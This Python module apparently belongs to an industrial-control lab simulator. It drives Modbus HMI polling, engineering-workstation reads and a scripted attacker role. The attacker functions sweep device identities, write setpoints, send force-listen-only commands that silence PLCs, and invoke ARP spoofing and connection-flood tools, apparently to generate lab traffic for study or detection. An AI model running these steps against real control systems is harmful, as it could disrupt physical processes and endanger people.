"""Modbus client roles: the HMI, the engineering workstation and the attacker's tool.

All use pymodbus's asyncio client, so every frame on the wire comes from a real stack.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import logging
import random
import sys
import time
from typing import Any

from pymodbus.client import AsyncModbusTcpClient
from pymodbus.exceptions import ModbusException

log = logging.getLogger(__name__)


def _client(ip: str, source_ip: str | None = None, timeout: float = 1.0) -> AsyncModbusTcpClient:
    return AsyncModbusTcpClient(
        ip, port=502, timeout=timeout, retries=0, reconnect_delay=0.5, reconnect_delay_max=2.0,
        source_address=(source_ip, 0) if source_ip else None,
    )


async def _hmi_target(target: dict[str, Any], spec: dict[str, Any], rng: random.Random) -> None:
    """Poll one PLC forever over one persistent connection, like a SCADA/HMI driver."""
    unit = int(target.get("unit_id", 1))
    poll_s = float(spec.get("poll_s", 1.0))
    write_every = int(spec.get("write_every", 8))
    client = _client(target["ip"])
    cycle = 0
    while True:
        if not client.connected:
            with contextlib.suppress(ModbusException, OSError):
                await client.connect()
            if not client.connected:
                await asyncio.sleep(poll_s)
                continue
        try:
            await client.read_holding_registers(0, count=4, device_id=unit)
            await client.read_input_registers(0, count=6, device_id=unit)
            await client.read_coils(0, count=2, device_id=unit)
            if write_every and cycle % write_every == write_every - 1:
                # The operator trims the high-level setpoint inside its normal band.
                await client.write_register(0, rng.randint(780, 840), device_id=unit)
        except (ModbusException, OSError) as exc:
            log.warning("poll of %s failed: %s", target["ip"], exc)
        cycle += 1
        await asyncio.sleep(poll_s * rng.uniform(0.9, 1.1))


async def run_hmi(spec: dict[str, Any]) -> None:
    rng = random.Random(int(spec.get("seed", 0)))
    tasks = [
        asyncio.create_task(_hmi_target(t, spec, random.Random(rng.random())))
        for t in spec["targets"]
    ]
    sys.stdout.write("READY\n")
    sys.stdout.flush()
    await asyncio.gather(*tasks)


async def read_identity(ip: str, unit: int, timeout: float = 1.0) -> dict[str, str]:
    """Connect, read basic and regular device identification, disconnect."""
    client = _client(ip, timeout=timeout)
    found: dict[str, str] = {}
    try:
        if not await client.connect():
            return found
        for code in (1, 2):
            resp = await client.read_device_information(read_code=code, device_id=unit)
            if not resp.isError():
                info = getattr(resp, "information", {}) or {}
                for key, value in info.items():
                    text = value.decode("latin-1") if isinstance(value, bytes) else str(value)
                    found[str(key)] = text
    except (ModbusException, OSError) as exc:
        log.warning("device identification of %s failed: %s", ip, exc)
    finally:
        client.close()
    return found


async def run_ews(spec: dict[str, Any]) -> None:
    """Engineering workstation: now and then reads identity and configuration of each PLC."""
    rng = random.Random(int(spec.get("seed", 0)))
    period = float(spec.get("period_s", 6.0))
    sys.stdout.write("READY\n")
    sys.stdout.flush()
    await asyncio.sleep(rng.uniform(0.5, 1.5))
    while True:
        for target in spec["targets"]:
            unit = int(target.get("unit_id", 1))
            await read_identity(target["ip"], unit)
            client = _client(target["ip"])
            try:
                if await client.connect():
                    await client.read_holding_registers(0, count=10, device_id=unit)
            except (ModbusException, OSError) as exc:
                log.warning("config read of %s failed: %s", target["ip"], exc)
            finally:
                client.close()
        await asyncio.sleep(period * rng.uniform(0.8, 1.2))


async def _attack_step(step: dict[str, Any]) -> dict[str, Any]:
    action = step["action"]
    unit = int(step.get("unit_id", 1))
    if action == "devid_sweep":
        found = {}
        for ip in step["targets"]:
            found[ip] = await read_identity(ip, unit)
        return {"identities": found}
    if action in ("arp_mitm", "conn_flood"):
        from . import attacks

        tool = attacks.arp_mitm if action == "arp_mitm" else attacks.conn_flood
        try:
            return await asyncio.to_thread(tool, step)
        except (OSError, attacks.LabGuardError) as exc:
            return {"error": f"{type(exc).__name__}: {exc}"}
    if action == "maintenance":
        return await _maintenance(step, unit)
    client = _client(step["target"])
    try:
        if not await client.connect():
            return {"error": "connect failed"}
        if action == "write_register":
            resp = await client.write_register(
                int(step["address"]), int(step["value"]), device_id=unit
            )
        elif action == "write_registers":
            resp = await client.write_registers(
                int(step["address"]), [int(v) for v in step["values"]], device_id=unit
            )
        elif action == "force_listen_only":
            # FC 8 sub-function 4: the device is expected not to answer.
            await client.diag_force_listen_only(device_id=unit, no_response_expected=True)
            await asyncio.sleep(0.2)
            return {"sent": True}
        else:
            return {"error": f"unknown action {action}"}
        return {"error": str(resp)} if resp.isError() else {"sent": True}
    except (ModbusException, OSError) as exc:
        return {"error": str(exc)}
    finally:
        client.close()


async def _maintenance(step: dict[str, Any], unit: int) -> dict[str, Any]:
    """A documented engineering change: read a (new) holding-register range, write a setpoint.

    One connection, like an engineering tool's online session: ``reads`` reads of
    ``read_count`` registers at ``read_address`` every ``interval_s``, the setpoint write, and
    ``reads`` more reads to verify.
    """
    client = _client(step["target"])
    reads = int(step.get("reads", 3))
    interval = float(step.get("interval_s", 0.5))
    done: dict[str, Any] = {"reads": 0}
    try:
        if not await client.connect():
            return {"error": "connect failed"}
        for phase in ("before", "after"):
            if phase == "after":
                resp = await client.write_register(
                    int(step["write_address"]), int(step["write_value"]), device_id=unit)
                if resp.isError():
                    return {"error": str(resp)}
                done["written"] = {"address": int(step["write_address"]),
                                   "value": int(step["write_value"])}
            for _ in range(reads):
                rr = await client.read_holding_registers(
                    int(step["read_address"]), count=int(step["read_count"]), device_id=unit)
                if rr.isError():
                    return {"error": str(rr)}
                done["reads"] += 1
                done[f"registers_{phase}"] = list(rr.registers)
                await asyncio.sleep(interval)
        return done
    except (ModbusException, OSError) as exc:
        return {"error": str(exc)}
    finally:
        client.close()


async def run_attack(spec: dict[str, Any]) -> None:
    """Run the steps in order; one JSON line per step with its wall-clock window."""
    for step in spec["steps"]:
        start = time.time()
        result = await _attack_step(step)
        end = time.time()
        line = {"id": step["id"], "start": start, "end": end, "ok": "error" not in result,
                "result": result}
        sys.stdout.write(json.dumps(line) + "\n")
        sys.stdout.flush()
        await asyncio.sleep(float(spec.get("gap_s", 0.5)))
